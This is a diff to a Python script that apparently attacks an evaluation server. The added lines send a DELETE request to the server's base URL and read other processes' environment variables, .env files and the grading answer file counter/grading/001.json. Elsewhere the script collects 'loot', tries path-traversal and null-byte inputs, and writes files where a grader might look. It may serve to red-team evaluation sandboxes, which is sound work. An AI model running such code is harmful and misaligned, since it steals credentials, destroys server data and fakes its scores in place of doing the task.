@@ -46,16 +46,20 @@ def admin_routes(url: str) -> Iterator[bytes]:
     yield asked(f"{base}/episodes", "POST", b'{"server": "counter", "scenario": "001"}')
     yield asked(f"{base}{own}/score", "POST", b"{}")
     yield asked(f"{base}{own}", "DELETE")
+    yield asked(url, "DELETE")
 
 
-def processes() -> Iterator[bytes]:
-    """What other processes were given: arguments, variables, open files, folders."""
+def processes(place: str) -> Iterator[bytes]:
+    """What other processes were given: arguments, variables, open files, folders, their view of the disk."""
     for folder in Path("/proc").glob("[0-9]*"):
         if int(folder.name) == os.getpid():
             continue
         for name in ("environ", "cmdline", "maps"):
             with contextlib.suppress(OSError):
                 yield (folder / name).read_bytes()
+        for way in (f"root{place}/counter/grading/001.json", f"root{place}/.env", "cwd/.env"):
+            with contextlib.suppress(OSError):
+                yield (folder / way).read_bytes()
         for descriptor in Path(folder / "fd").glob("*") if os.access(folder / "fd", os.R_OK) else ():
             with contextlib.suppress(OSError):
                 yield descriptor.read_bytes()[:MOST_BYTES] if descriptor.is_file() else b""
@@ -107,7 +111,7 @@ async def main() -> None:
     async with Client(url) as client:
         tools = (await client.list_tools()).tools
         seen = [repr(tools).encode(), repr(dict(os.environ)).encode()]
-        seen += [*admin_routes(url), *await other_episodes(url), *processes(), *files(place)]
+        seen += [*admin_routes(url), *await other_episodes(url), *processes(place), *files(place)]
         loot = {found.decode() for text in seen for found in LOOT.findall(text)}
         write_where_a_grader_might_look(place)
         for trick in ("/counts/a", "__class__", "../../grading/001.json", "state", "a\x00"):
